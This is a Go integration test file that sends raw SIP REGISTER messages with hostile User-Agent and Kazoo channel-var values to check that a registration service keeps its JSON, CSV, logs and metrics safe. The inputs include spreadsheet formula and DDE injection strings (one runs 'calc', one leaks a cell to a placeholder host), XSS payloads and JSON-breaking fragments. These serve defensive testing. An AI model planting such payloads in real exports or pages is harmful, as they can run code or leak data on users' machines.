//go:build integration

package e2e

import (
	"bufio"
	"context"
	"crypto/rand"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/kamreg/kamreg/testbed"
)

// rawPhone is a phone registered with a raw REGISTER over UDP, so that its
// User-Agent and headers may hold any bytes, invalid UTF-8 included.
type rawPhone struct {
	User, Agent string
	// ContactParams follow the Contact URI (";a=b"), any bytes.
	ContactParams string
	// Headers are extra header lines, without CRLF.
	Headers []string
}

// registerRaw registers each phone at the SIP listener addr (host:port)
// for domain, each from its own UDP socket, and waits for Kamailio's 200.
func registerRaw(t *testing.T, addr, domain string, phones ...rawPhone) {
	t.Helper()
	for i, status := range registerRawAnswers(t, addr, domain, phones...) {
		if status != "200" {
			t.Fatalf("REGISTER of %s: %s", phones[i].User, status)
		}
	}
}

// registerRawAnswers sends each phone's REGISTER as registerRaw does and
// returns the final status Kamailio gave each.
func registerRawAnswers(t *testing.T, addr, domain string, phones ...rawPhone) []string {
	t.Helper()
	var answers []string
	for i, p := range phones {
		conn, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
		if err != nil {
			t.Fatal(err)
		}
		to, err := net.ResolveUDPAddr("udp", addr)
		if err != nil {
			t.Fatal(err)
		}
		port := conn.LocalAddr().(*net.UDPAddr).Port
		var b strings.Builder
		fmt.Fprintf(&b, "REGISTER sip:%s SIP/2.0\r\n", domain)
		fmt.Fprintf(&b, "Via: SIP/2.0/UDP 127.0.0.1:%d;branch=z9hG4bK-%s\r\n", port, randHex())
		fmt.Fprintf(&b, "From: <sip:%s@%s>;tag=%s\r\n", p.User, domain, randHex())
		fmt.Fprintf(&b, "To: <sip:%s@%s>\r\n", p.User, domain)
		fmt.Fprintf(&b, "Call-ID: hostile-%s@testbed\r\n", randHex())
		b.WriteString("CSeq: 1 REGISTER\r\n")
		fmt.Fprintf(&b, "Contact: <sip:%s@127.0.0.77:%d%s>\r\n", p.User, 6000+i, p.ContactParams)
		b.WriteString("Max-Forwards: 70\r\nExpires: 300\r\n")
		b.WriteString("User-Agent: " + p.Agent + "\r\n")
		for _, h := range p.Headers {
			b.WriteString(h + "\r\n")
		}
		b.WriteString("Content-Length: 0\r\n\r\n")
		answers = append(answers, sendSIP(t, conn, to, []byte(b.String())))
		conn.Close()
	}
	return answers
}

// sendSIP sends req, again every half second, and returns the status code
// of the first final answer, or fails the test within 10 s.
func sendSIP(t *testing.T, conn *net.UDPConn, to *net.UDPAddr, req []byte) string {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	buf := make([]byte, 65535)
	for time.Now().Before(deadline) {
		if _, err := conn.WriteToUDP(req, to); err != nil {
			t.Fatal(err)
		}
		_ = conn.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
		for {
			n, _, err := conn.ReadFromUDP(buf)
			if err != nil {
				break // retransmit
			}
			line, _, _ := strings.Cut(string(buf[:n]), "\r\n")
			f := strings.Fields(line)
			if len(f) >= 2 && f[0] == "SIP/2.0" && f[1] >= "200" {
				return f[1]
			}
		}
	}
	t.Fatalf("no final answer to a REGISTER within 10 s")
	return ""
}

func randHex() string {
	b := make([]byte, 8)
	_, _ = rand.Read(b)
	return hex.EncodeToString(b)
}

// formulaAgents are User-Agents a spreadsheet would run.
var formulaAgents = []string{`=HYPERLINK("http://x/?"&A2,"open")`, `+1+cmd|' /C calc'!A0`, `@SUM(1+1)`, `-2+3`}

// hostileMarkers are fragments of what the hostile phones send, none of
// which may reach a metric label or the log (MMMMMMMM is of the 1 KB
// method the test sends).
var hostileMarkers = []string{"MMMMMMMM", "HYPERLINK", "cmd|", "SUM(1+1)", "-2+3", "<script", "\\back", "hostile-quote", "\xff"}

// TestHostileAgents registers phones through a real Kamailio with
// User-Agents that are formulas, quotes, backslashes, 4 KB long or invalid
// UTF-8, and checks what kamreg makes of them: valid JSON equal to what
// was sent where it was valid UTF-8, neutralised CSV cells, a valid event
// stream, bounded JSON log lines and /metrics without any of it. The node
// keeps its contacts in memory and kamreg reads them with ul.dump
// (KAMREG_SOURCE=rpc): usrloc's table holds a User-Agent of at most 255
// bytes, in a UTF-8 database.
func TestHostileAgents(t *testing.T) {
	ctx := context.Background()
	dbURL, err := env.pg.CreateDatabase(ctx, "hostileagents")
	if err != nil {
		t.Fatal(err)
	}
	k := startNode(t, testbed.KamailioOptions{MemoryOnly: true})
	kr := serveFor(t, "node="+k.RPCURL(), "KAMREG_DATABASE_URL="+dbURL, "KAMREG_SOURCE=rpc", "KAMREG_DB_TIMEZONE=UTC",
		"KAMREG_DUMP_TTL=0", "KAMREG_LOG_LEVEL=info")
	a := newAccountIn(t, dbURL, "Hostile agents", "agents.kamreg.test", "", false)

	long := strings.Repeat("L", 4096)
	agents := map[string]string{
		"f1": formulaAgents[0], "f2": formulaAgents[1], "f3": formulaAgents[2], "f4": formulaAgents[3],
		"q1":   `hostile-quote "double" 'single' \back\slash \"both\" \u0041 \n`,
		"long": long,
		"u200": long[:200],
		"bad8": "invalid \xff\xfe utf-8 \xc3\x28 end",
	}
	var phones []rawPhone
	for u, ua := range agents {
		phones = append(phones, rawPhone{User: u, Agent: ua})
	}
	registerRaw(t, k.SIPAddr(), a.realm, phones...)
	waitCount(t, kr, a, len(agents))

	// JSON: valid, and each User-Agent as sent (invalid bytes replaced).
	list := call(t, "GET", kr.Base+"/v2/accounts/"+a.id+"/registrations", a.token)
	if !json.Valid(list.body) || !utf8.Valid(list.body) {
		t.Fatalf("the list is not valid JSON in UTF-8: %q", list.body)
	}
	var page struct {
		Data []struct {
			Username  string `json:"username"`
			UserAgent string `json:"user_agent"`
		} `json:"data"`
	}
	if err := json.Unmarshal(list.body, &page); err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, r := range page.Data {
		got[r.Username] = r.UserAgent
	}
	// Kamailio itself keeps a long User-Agent as "n/a" (measured with
	// Kamailio 5.6: 200 bytes are kept, 255 are not).
	agents["long"] = "n/a"
	for u, ua := range agents {
		switch {
		case utf8.ValidString(ua) && got[u] != ua:
			t.Errorf("%s: user_agent %.80q, want %.80q", u, got[u], ua)
		case !utf8.ValidString(ua) && (!strings.HasPrefix(got[u], "invalid ") || !strings.HasSuffix(got[u], " end") ||
			!strings.Contains(got[u], "\uFFFD")):
			t.Errorf("%s: user_agent %q, want %q with its invalid bytes as U+FFFD", u, got[u], ua)
		}
	}

	// CSV: no cell a spreadsheet would run.
	r := call(t, "GET", kr.Base+"/v2/accounts/"+a.id+"/registrations?accept=csv", a.token)
	rows, err := csv.NewReader(strings.NewReader(string(r.body))).ReadAll()
	if err != nil || len(rows) != len(agents)+1 {
		t.Fatalf("CSV: %v, %d rows:\n%s", err, len(rows), r.body)
	}
	col := map[string]int{}
	for i, k := range rows[0] {
		col[k] = i
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("CSV cell %s of %s begins with %q: %.60q", rows[0][i], row[col["username"]], cell[0], cell)
			}
		}
		u := row[col["username"]]
		if ua := agents[u]; strings.ContainsRune("=+-@", rune(ua[0])) && row[col["user_agent"]] != "'"+ua {
			t.Errorf("CSV user_agent of %s: %q, want %q", u, row[col["user_agent"]], "'"+ua)
		}
	}

	// The event stream: a snapshot of valid JSON with every phone.
	snap := firstEvent(t, kr.Base+"/v2/accounts/"+a.id+"/registrations/events?auth_token="+a.token)
	var regs []struct{ Username string }
	if !json.Valid([]byte(snap)) || json.Unmarshal([]byte(snap), &regs) != nil || len(regs) != len(agents) {
		t.Errorf("snapshot: %.200q", snap)
	}

	// Made-up methods, through the real server.
	for _, m := range []string{"FOO", strings.Repeat("M", 1024)} {
		if code, _ := raw(t, kr.Base, m+" /v2/accounts/"+a.id+"/registrations HTTP/1.1"); code != 405 {
			t.Errorf("method %.10s…: %d, want 405", m, code)
		}
	}

	// /metrics: no label holds any of it, and no method but the known.
	m := call(t, "GET", kr.Metrics+"/metrics", "")
	for _, line := range strings.Split(string(m.body), "\n") {
		if strings.HasPrefix(line, "#") {
			continue
		}
		for _, h := range hostileMarkers {
			if strings.Contains(line, h) {
				t.Errorf("/metrics holds %q: %.120s", h, line)
			}
		}
		if strings.Contains(line, "MMMM") || strings.Contains(line, `method="FOO"`) {
			t.Errorf("/metrics has a made-up method: %.120s", line)
		}
	}

	// The log: JSON lines, bounded, none of the phones' text.
	checkLog(t, kr.LogPath, 8<<10)
}

// TestHostileChannelVars registers phones, through the shared Kamailio and
// its location table, with Kazoo channel vars that carry HTML and JSON
// fragments and formula User-Agents: the list gives them back as they
// were sent, in valid JSON, and the CSV neutralises the formulas.
func TestHostileChannelVars(t *testing.T) {
	a := newAccount(t, "Hostile vars", "hostile-vars.kamreg.test", "", false)
	ccv := func(id, owner, typ string) string {
		b, _ := json.Marshal(map[string]string{"Authorizing-ID": id, "Owner-ID": owner, "Authorizing-Type": typ})
		return "X-Kazoo-CCV: " + string(b)
	}
	type want struct{ agent, id, owner, typ string }
	phones := map[string]want{
		"html": {formulaAgents[0], `<script>alert(1)</script>`, `</td><img src=x onerror=alert(1)>`, `<b>device</b>`},
		"json": {formulaAgents[1], `"},{"injected":true,"x":"`, `{"a":[1,2]}`, `\u0000 \" \\`},
		"amp":  {`"quoted" \back\slash`, `&amp;&lt;&#39;`, `]]></x>`, `@SUM(1+1)`},
	}
	var raws []rawPhone
	for u, w := range phones {
		raws = append(raws, rawPhone{User: u, Agent: w.agent, Headers: []string{ccv(w.id, w.owner, w.typ)}})
	}
	registerRaw(t, env.kam.SIPAddr(), a.realm, raws...)
	waitCount(t, env.main, a, len(phones))

	list := call(t, "GET", env.main.Base+"/v2/accounts/"+a.id+"/registrations", a.token)
	if !json.Valid(list.body) {
		t.Fatalf("not JSON: %s", list.body)
	}
	if ct := list.header.Get("Content-Type"); ct != "application/json" || list.header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("Content-Type %q, X-Content-Type-Options %q", ct, list.header.Get("X-Content-Type-Options"))
	}
	var page struct {
		Data []struct {
			Username        string `json:"username"`
			UserAgent       string `json:"user_agent"`
			AuthorizingID   string `json:"authorizing_id"`
			OwnerID         string `json:"owner_id"`
			AuthorizingType string `json:"authorizing_type"`
		} `json:"data"`
	}
	if err := json.Unmarshal(list.body, &page); err != nil {
		t.Fatal(err)
	}
	if len(page.Data) != len(phones) {
		t.Fatalf("%d entries: %s", len(page.Data), list.body)
	}
	for _, r := range page.Data {
		w := phones[r.Username]
		if got := (want{r.UserAgent, r.AuthorizingID, r.OwnerID, r.AuthorizingType}); got != w {
			t.Errorf("%s: got %+v, want %+v", r.Username, got, w)
		}
	}

	r := call(t, "GET", env.main.Base+"/v2/accounts/"+a.id+"/registrations?accept=csv", a.token)
	rows, err := csv.NewReader(strings.NewReader(string(r.body))).ReadAll()
	if err != nil || len(rows) != len(phones)+1 {
		t.Fatalf("CSV: %v:\n%s", err, r.body)
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("CSV cell %s begins with %q: %q", rows[0][i], cell[0], cell)
			}
		}
	}
	snap := firstEvent(t, env.main.Base+"/v2/accounts/"+a.id+"/registrations/events?auth_token="+a.token)
	if !json.Valid([]byte(snap)) || !strings.Contains(snap, `\u003cscript\u003e`) && !strings.Contains(snap, `<script>`) {
		t.Errorf("snapshot: %.300s", snap)
	}
}

// firstEvent reads an event stream's first event and returns its data.
func firstEvent(t *testing.T, url string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("events: %d", resp.StatusCode)
	}
	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(nil, 8<<20)
	var data []string
	for sc.Scan() {
		line := sc.Text()
		if line == "" && data != nil {
			return strings.Join(data, "\n")
		}
		if d, ok := strings.CutPrefix(line, "data: "); ok {
			data = append(data, d)
		}
	}
	t.Fatalf("the stream ended before its first event: %v", sc.Err())
	return ""
}

// checkLog reads a kamreg log: every line is a JSON object of at most max
// bytes, and none holds any of hostileMarkers.
func checkLog(t *testing.T, path string, max int) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(string(b), "\n"), "\n")
	for _, line := range lines {
		if len(line) > max {
			t.Errorf("a log line of %d bytes: %.200s", len(line), line)
		}
		var e map[string]any
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Errorf("not a JSON log line: %.200q", line)
		}
		for _, h := range hostileMarkers {
			if strings.Contains(line, h) {
				t.Errorf("the log holds %q: %.200s", h, line)
			}
		}
	}
	if len(lines) < 5 {
		t.Errorf("only %d log lines", len(lines))
	}
}

// TestBytesUsrlocCannotStore: a REGISTER whose User-Agent is not valid
// UTF-8 reached Kamailio's memory but never the location table (usrloc's
// write failed at every timer run), so that a realm flush answered "ok"
// while the phone stayed registered. The reference cfg now refuses (400)
// invalid UTF-8 in the User-Agent, the Call-ID and the Contact on a node
// that writes to PostgreSQL; valid UTF-8 still registers.
func TestBytesUsrlocCannotStore(t *testing.T) {
	a := newAccount(t, "Bad bytes", "badbytes.kamreg.test", "", false)
	got := registerRawAnswers(t, env.kam.SIPAddr(), a.realm,
		rawPhone{User: "bad8", Agent: "invalid \xff\xfe utf-8 \xc3\x28 end"},
		rawPhone{User: "latin1", Agent: "T\xe9l\xe9phone 1.0"},
		rawPhone{User: "badcontact", Agent: "Plain/1.0", ContactParams: ";x=\xff\xfe"},
		rawPhone{User: "utf8", Agent: "Téléphone/1.0 (\"quoted\")"},
		rawPhone{User: "plain", Agent: "Plain/1.0", ContactParams: ";x=été"})
	if diff := cmp.Diff([]string{"400", "400", "400", "200", "200"}, got); diff != "" {
		t.Fatalf("answers (-want +got):\n%s", diff)
	}
	for _, user := range []string{"bad8", "latin1", "badcontact"} {
		contacts, err := env.kam.Client().Lookup(context.Background(), "location", user+"@"+a.realm)
		if err != nil || len(contacts) != 0 {
			t.Errorf("%s is in Kamailio's memory: %v, %v", user, contacts, err)
		}
	}
	waitCount(t, env.main, a, 2)
	list := call(t, "GET", env.main.Base+"/v2/accounts/"+a.id+"/registrations?filter_username=utf8", a.token)
	if !strings.Contains(string(list.body), `"user_agent":"Téléphone/1.0 (\"quoted\")"`) {
		t.Errorf("the UTF-8 User-Agent is not listed as sent: %s", list.body)
	}
}
